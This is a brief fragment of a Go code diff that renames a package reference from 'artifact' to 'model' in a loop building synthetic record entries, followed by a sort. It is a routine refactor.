-		g.list = append(g.list, guess{rec: &artifact.Record{ID: fmt.Sprintf("R-%06d", i)}, at: noon.Add(time.Duration(i*i%977) * time.Minute), count: 1 + i%5, address: fmt.Sprint(i % 17)})
+		g.list = append(g.list, guess{rec: &model.Record{ID: fmt.Sprintf("R-%06d", i)}, at: noon.Add(time.Duration(i*i%977) * time.Minute), count: 1 + i%5, address: fmt.Sprint(i % 17)})
 	}
 	g.sort()
 	for m := 0; m < 1200; m += 7 {
